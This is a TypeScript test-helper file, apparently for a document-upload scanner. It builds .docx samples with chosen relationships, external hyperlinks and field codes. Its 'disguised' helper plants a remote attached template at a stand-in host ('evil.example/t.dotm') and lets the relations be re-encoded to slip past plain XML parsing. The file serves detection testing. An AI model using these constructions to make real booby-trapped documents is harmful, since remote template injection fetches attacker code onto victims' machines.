import { aDocx } from "./uploads.ts";

export const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
export const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
export const PARTS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"';
export const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml";

/** A list of content types that has Word's document among them. */
export function types(more: string) {
  const declared = `<Default Extension="xml" ContentType="application/xml"/>${more}`;
  const main = `<Override PartName="/word/document.xml" ContentType="${WORD}.document.main+xml"/>`;
  return `${HEAD}\r\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${declared}${main}</Types>`;
}
export const TEMPLATE = `${OFFICE}/attachedTemplate`;
export const EVIL = 'Target="https://evil.example/t.dotm"';

/** A docx one of whose lists of relations says this. */
export function related(attributes: string, name = "word/_rels/settings.xml.rels") {
  return aDocx({ [name]: `${HEAD}<Relationships ${PARTS}><Relationship Id="1" ${attributes}/></Relationships>` });
}

/** A docx with a template from elsewhere, in a list of relations that is no plain XML in UTF-8. */
export function disguised(change: (relations: string) => string | Buffer) {
  const relations = `<Relationships><Relationship Id="1" Type="${TEMPLATE}" ${EVIL} TargetMode="External"/></Relationships>`;
  return aDocx({ "word/_rels/settings.xml.rels": change(relations) });
}

/** A docx with a link that leads there. */
export function linked(target: string) {
  return related(`Type="${OFFICE}/hyperlink" Target="${target}" TargetMode="External"`);
}

/** A docx with these pieces of one field. */
export function withFields(pieces: string, mark = "") {
  return aDocx({
    "word/document.xml": `<w:p><w:r><w:fldChar w:fldCharType="begin"${mark}/></w:r><w:r>${pieces}</w:r></w:p>`,
  });
}
